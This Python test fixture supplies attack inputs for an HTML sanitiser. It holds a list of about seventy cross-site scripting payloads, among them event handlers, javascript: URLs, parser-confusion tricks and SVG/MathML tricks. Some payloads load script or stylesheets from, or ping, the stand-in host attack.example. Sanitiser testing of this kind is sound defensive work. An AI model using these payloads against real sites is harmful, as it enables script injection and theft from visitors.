"""What is thrown at the sanitiser: attacks of our own, and those of the shared corpora."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

# One for each way in: an element, a handler, an address, a style, a parser that disagrees.
OWN = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//attack.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<img src=x one\u0000rror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)><p>text",
    "<details open ontoggle=alert(1)>x</details>",
    "<p autofocus tabindex=0 onfocus=alert(1)>x</p>",
    "<b onmouseover=alert(1) style='position:fixed;inset:0'>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscr\nipt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//attack.example' target=_top ping='https://attack.example/p'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'><a href=x>x</a>",
    "<link rel=stylesheet href='https://attack.example/x.css'>",
    "<style>@import 'https://attack.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1));width:expression(alert(1))'>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--></style></select><img src onerror=alert(1)>'>",
    "<table><tr><td><img src=x onerror=alert(1)><svg><desc><td><script>alert(1)</script>",
    "<a><table><a><img src=x onerror=alert(1)></table></a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "</p><img src=x onerror=alert(1)",
    "<p title='\"><img src=x onerror=alert(1)>'>x",
    "<p title=\"`><img src=x onerror=alert(1)>\">x",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)//></video>",
    "<img srcset='x, javascript:alert(1) 2x' onerror=alert(1)>",
    "<img name=getElementById id=cookie src=x><form name=body>",
    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p>" + "<b>" * 600 + "<img src=x onerror=alert(1)>",
    "<custom-element onclick=alert(1) is=x>x</custom-element><slot onslotchange=alert(1)>",
    "<article></article></div></body></html><script>alert(1)</script>",
]


@dataclass(frozen=True)
class Attack:
    name: str
    html: str


def shared() -> Path | None:
    """The folder of corpora beside the repository, when a run names it."""
    folder = os.environ.get("PREGONERO_SHARED")
    return Path(folder) if folder else None


def attacks() -> list[Attack]:
    own = [Attack(f"own-{number}", html) for number, html in enumerate(OWN, 1)]
    folder = shared()
    if folder is None:
        return own
    found = []
    for file in sorted((folder / "corpora" / "xss").glob("*.json")):
        found += [Attack(case["id"], case["payload"]) for case in json.loads(file.read_text("utf-8"))]
    return own + found
